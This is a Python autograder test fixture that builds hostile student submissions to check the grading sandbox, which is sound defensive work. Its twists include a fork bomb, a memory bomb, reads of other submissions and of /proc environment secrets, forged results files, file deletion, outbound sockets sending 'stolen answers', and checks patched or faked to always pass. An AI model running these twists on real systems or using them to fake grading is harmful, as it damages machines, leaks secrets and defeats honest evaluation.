"""The hostile corpus: one submission per threat of issue 4, built from solutions/ plus one twist.

Each submission is the reference solutions (always current: read from ``solutions/rnn_lstm`` when
built, never copied here by hand) with a few lines appended to one module: code that runs at
import, or a redefinition of ``clip_grad_norm`` / ``hidden_grad_norms`` (the two functions of
``gradient_flow.py``, which no other module imports, so a twist there cannot spill over).

``lost`` names the graded functions whose points the twist must cost; every other function must
keep all its points. ``kept_kinds`` are the kinds of test (autograder/packs/rnn_lstm/rubric.toml) that a twist
does not touch (none today: in-place and invalid-cell tests count only when the function's values
test passes, so a function that returns NaN earns nothing for modifying no input). Twists that attack the machine print ``BREACH ...`` when an attack works, so
a grading output that contains "BREACH" is a hole. Destructive twists only ever target a decoy
copy of solutions/ and the "other student" submission made for the test, never the real
repository, so a hole is reported without damage. ``needs_kernel`` twists are withstood in process mode
only where the worker gets Landlock and seccomp (autograder/sandbox/confine.py); elsewhere that case is skipped.

Placeholders in twists (``string.Template``): ``$repo``, ``$port`` (a listener of the test on
127.0.0.1), ``$decoy``, ``$other`` (another student's submission), ``$results`` (the grader's
results path), ``$tag`` (unique per run).
"""
from __future__ import annotations

import shutil
import string
from dataclasses import dataclass
from pathlib import Path
from typing import Dict, Tuple

GF = "gradient_flow.py"
MODULES = ("rnn_layers.py", "lstm_layers.py", "deep_layers.py", "gradient_flow.py")
BOTH_GF = ("hidden_grad_norms", "clip_grad_norm")
CLIP = ("clip_grad_norm",)


@dataclass(frozen=True)
class Hostile:
    threat: str  # the category of issue 4
    module: str
    twist: str
    lost: Tuple[str, ...] = ()  # functions whose tests must all fail...
    kept_kinds: Tuple[str, ...] = ()  # ...except tests of these kinds (rubric "kind"), which the twist leaves intact
    # Withstood only where files, network and other processes are hidden and processes are limited:
    # bwrap, or a worker confined by Landlock and seccomp (process mode on a recent Linux kernel).
    needs_kernel: bool = False
    symlink_to: str = ""  # the module is a symbolic link to this path instead (a Template)
    secret_text: str = ""  # text that must never appear in the results (a file's content, a grader internal)


CORPUS: Dict[str, Hostile] = {
    "exit_at_import": Hostile("sys.exit at import", GF, "import sys\nsys.exit(0)\n", BOTH_GF),
    "os_exit_at_import": Hostile("os._exit at import", GF, "import os\nos._exit(0)\n", BOTH_GF),
    "exit_in_call": Hostile("sys.exit in a call", GF,
                            "def clip_grad_norm(grads, max_norm):\n    import sys\n    sys.exit(0)\n", CLIP),
    "os_exit_in_call": Hostile("os._exit in a call", GF,
                               "def clip_grad_norm(grads, max_norm):\n    import os\n    os._exit(3)\n", CLIP),
    "infinite_loop_in_call": Hostile("infinite loop in a call", GF,
                                     "def clip_grad_norm(grads, max_norm):\n    while True:\n        pass\n", CLIP),
    "infinite_loop_at_import": Hostile("infinite loop at import", GF, "while True:\n    pass\n", BOTH_GF),
    "memory_bomb": Hostile("memory bomb", GF, (
        "def clip_grad_norm(grads, max_norm):\n"
        "    hog = []\n"
        "    while True:\n"
        "        hog.append(np.ones(2**24))  # 128 MiB each, touched\n"
    ), CLIP),
    "fork_bomb": Hostile("fork bomb", GF, (
        "def clip_grad_norm(grads, max_norm):\n"
        "    import os, time\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            time.sleep(0.2)\n"
    ), CLIP, needs_kernel=True),
    "output_flood": Hostile("megabytes of output", GF, (
        "import sys\n"
        "_reference_clip = clip_grad_norm\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    sys.stdout.write('spam ' * 2**20)\n"
        "    sys.stderr.write('more spam ' * 2**19)\n"
        "    return _reference_clip(grads, max_norm)\n"
    )),
    "read_reference": Hostile("reading the reference, hidden tests or other submissions from disk", GF, (
        "import os\n"
        "_guesses = ['$repo/solutions/rnn_lstm/gradient_flow.py', '$other/gradient_flow.py',\n"
        "            '/autograder/source/solutions/rnn_lstm/gradient_flow.py', '../solutions/rnn_lstm/gradient_flow.py']\n"
        "for _root in ('/', '/tmp', '/home', '/root', '/work', '/autograder'):\n"
        "    for _path, _dirs, _files in os.walk(_root):\n"
        "        if _path.count('/') > 5 or _path.startswith(('/proc', '/sys', '/usr', '/sandbox')):\n"
        "            _dirs[:] = []\n"
        "        if 'gradient_flow.py' in _files and not _path.startswith('/submission'):\n"
        "            _guesses.append(os.path.join(_path, 'gradient_flow.py'))\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    guesses = list(_guesses)\n"
        "    for path in guesses:\n"
        "        try:\n"
        "            source = open(path).read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        print('BREACH read', path)\n"
        "        scope = {'__name__': 'stolen'}\n"
        "        exec(compile(source, path, 'exec'), scope)\n"
        "        return scope['clip_grad_norm'](grads, max_norm)\n"
        "    raise RuntimeError('found no reference to copy')\n"
    ), CLIP, needs_kernel=True),
    "read_grader_memory": Hostile("reading the reference or hidden tests from the grader's memory", GF, (
        "import os\n"
        "try:\n"
        "    _pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
        "except OSError:  # /proc closed (Landlock): nothing to look at\n"
        "    _pids = []\n"
        "for _pid in _pids:\n"
        "    try:\n"
        "        _cmd = open(f'/proc/{_pid}/cmdline', 'rb').read().replace(b'\\0', b' ')\n"
        "    except OSError:\n"
        "        continue\n"
        "    if (b'pytest' in _cmd or b'autograder grade' in _cmd) and b'bwrap' not in _cmd:  # the grader, not our init\n"
        "        try:\n"
        "            _maps = open(f'/proc/{_pid}/maps').read()\n"
        "            print('BREACH grader memory map readable', _pid, len(_maps))\n"
        "        except OSError:\n"
        "            print('BREACH grader process visible', _pid)\n"
    ), needs_kernel=True),
    "forge_results": Hostile("writing a forged results file", GF, (
        "import json, os\n"
        "_forged = json.dumps({'score': 1000, 'tests': []})\n"
        "for _path in ('$results', '/tmp/forged-$tag.json', '$repo/forged-$tag.json', 'results.json',\n"
        "              '/autograder/results/results.json', '/submission/results.json'):\n"
        "    try:\n"
        "        with open(_path, 'w') as _handle:\n"
        "            _handle.write(_forged)\n"
        "        if not _path.startswith('/tmp/'):  # the sandbox's /tmp is private: the test looks on the host\n"
        "            print('BREACH wrote', _path)\n"
        "    except OSError:\n"
        "        pass\n"
    ), needs_kernel=True),
    "vandal": Hostile("deleting or changing files of the repository or of other submissions", GF, (
        "import os, shutil\n"
        "for _action, _path in (('rmtree', '$decoy/solutions'), ('remove', '$other/rnn_layers.py'),\n"
        "                       ('truncate', '$decoy/rubric.toml'), ('append', '$repo/autograder/packs/rnn_lstm/rubric.toml'),\n"
        "                       ('append', '$repo/solutions/rnn_lstm/rnn_layers.py')):\n"
        "    try:\n"
        "        if _action == 'rmtree':\n"
        "            shutil.rmtree(_path)\n"
        "        elif _action == 'remove':\n"
        "            os.remove(_path)\n"
        "        elif _action == 'truncate':\n"
        "            open(_path, 'w').close()\n"
        "        else:\n"
        "            open(_path, 'a').close()  # opening is proof enough; nothing is written\n"
        "        print('BREACH', _action, _path)\n"
        "    except OSError:\n"
        "        pass\n"
    ), needs_kernel=True),
    "monkeypatch": Hostile("monkeypatching numpy, pytest, Hypothesis or the grader", GF, (
        "import builtins, sys, types\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.testing.assert_array_equal = lambda *a, **k: None\n"
        "for _name in ('pytest', 'hypothesis', 'autograder', 'autograder.engine.checks', 'autograder.engine.grade'):\n"
        "    _fake = types.ModuleType(_name)\n"
        "    _fake.__getattr__ = lambda attr: (lambda *a, **k: True)\n"
        "    sys.modules[_name] = _fake\n"
        "builtins.__dict__['grade'] = lambda *a, **k: 100\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    return dict(grads), 0.0  # wrong whenever the norm is not 0, 'but every check says ok'\n"
    ), CLIP),
    "claims_equal": Hostile("arrays or objects that claim to equal anything", GF, (
        "_reference_clip = clip_grad_norm\n"
        "_reference_norms = hidden_grad_norms\n"
        "class AlwaysEqual(float):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = float.__hash__\n"
        "class LyingArray(np.ndarray):\n"
        "    def __eq__(self, other):\n"
        "        return np.ones(np.shape(other), dtype=bool)\n"
        "    def __array_finalize__(self, obj):\n"
        "        pass\n"
        "class Anything:\n"
        "    __eq__ = lambda self, other: True\n"
        "    __array_priority__ = 1000\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    clipped, total = _reference_clip(grads, max_norm)\n"
        "    return {k: (v * 0 + 7).view(LyingArray) for k, v in clipped.items()}, AlwaysEqual(-1.0)\n"
        "def hidden_grad_norms(*args, **kwargs):\n"
        "    return Anything()\n"
    ), BOTH_GF),
    "network": Hostile("opening network connections", GF, (
        "import socket\n"
        "for _host, _port in (('127.0.0.1', $port), ('1.1.1.1', 80), ('pypi.org', 443)):\n"
        "    try:\n"
        "        with socket.create_connection((_host, _port), timeout=2) as _sock:\n"
        "            _sock.sendall(b'stolen answers')\n"
        "        print('BREACH connected', _host, _port)\n"
        "    except OSError:\n"
        "        pass\n"
    ), needs_kernel=True),
    "secrets": Hostile("reading the grader's environment (secrets)", GF, (
        "import os\n"
        "_found = {k: v for k, v in os.environ.items() if 'SECRET' in k or 'TOKEN' in k}\n"
        "try:\n"
        "    _pids = os.listdir('/proc')\n"
        "except OSError:  # /proc closed (Landlock)\n"
        "    _pids = []\n"
        "for _pid in _pids:\n"
        "    try:\n"
        "        _env = open(f'/proc/{_pid}/environ', 'rb').read().split(b'\\0')\n"
        "    except OSError:\n"
        "        continue\n"
        "    _found.update(dict(e.decode(errors='replace').split('=', 1) for e in _env if b'SECRET' in e and b'=' in e))\n"
        "if _found:\n"
        "    print('BREACH secrets', _found)\n"
    ), needs_kernel=True),
    "symlinked_module": Hostile(
        "reading hidden files through a module that is a symbolic link", GF, "", BOTH_GF,
        symlink_to="$repo/autograder/packs/rnn_lstm/rubric.toml", secret_text="visibility ="),
    "protocol_bomb": Hostile("forging the worker's replies (a JSON header nested 200000 deep)", GF, (
        "def clip_grad_norm(grads, max_norm):\n"
        "    import os, struct, sys, time\n"
        "    body = b'{\"results\": ' + b'[' * 200000 + b']' * 200000 + b'}'\n"
        "    os.write(int(sys.argv[2]), struct.pack('>I', len(body)) + body)  # the worker's reply pipe\n"
        "    time.sleep(60)\n"
    ), CLIP, secret_text="RecursionError"),
    "syntax_error": Hostile("a syntax error", GF, "def broken(:\n    pass\n", BOTH_GF),
    "missing_function": Hostile("a missing function", GF, "del clip_grad_norm\n", CLIP),
    "wrong_types_and_shapes": Hostile("wrong return types or shapes", GF, (
        "_reference_norms = hidden_grad_norms\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    return [list(grads.values())], 'small'\n"
        "def hidden_grad_norms(*args, **kwargs):\n"
        "    return np.append(_reference_norms(*args, **kwargs), 0.0)  # one norm too many\n"
    ), BOTH_GF),
    "nan_and_inf": Hostile("NaN and inf", GF, (
        "_reference_clip = clip_grad_norm\n"
        "_reference_norms = hidden_grad_norms\n"
        "def clip_grad_norm(grads, max_norm):\n"
        "    clipped, total = _reference_clip(grads, max_norm)\n"
        "    return {k: v + np.inf for k, v in clipped.items()}, float('inf')\n"
        "def hidden_grad_norms(*args, **kwargs):\n"
        "    return _reference_norms(*args, **kwargs) * np.nan\n"
    ), BOTH_GF),
}


def build(name: str, solutions: Path, target: Path, context: Dict[str, object]) -> Path:
    """Write submission ``name`` into ``target`` (created): solutions/ plus the twist."""
    hostile = CORPUS[name]
    target.mkdir(parents=True)
    for module in MODULES:
        if module == hostile.module and hostile.symlink_to:
            link = string.Template(hostile.symlink_to).substitute({k: str(v) for k, v in context.items()})
            (target / module).symlink_to(link)
            continue
        text = (solutions / module).read_text(encoding="utf-8")
        if module == hostile.module:
            twist = string.Template(hostile.twist).substitute({k: str(v) for k, v in context.items()})
            text = text.rstrip("\n") + f"\n\n\n# ---- hostile twist: {hostile.threat} ----\n" + twist
        (target / module).write_text(text, encoding="utf-8")
    return target


def copy_tree(source: Path, target: Path) -> Path:
    shutil.copytree(source, target)
    return target
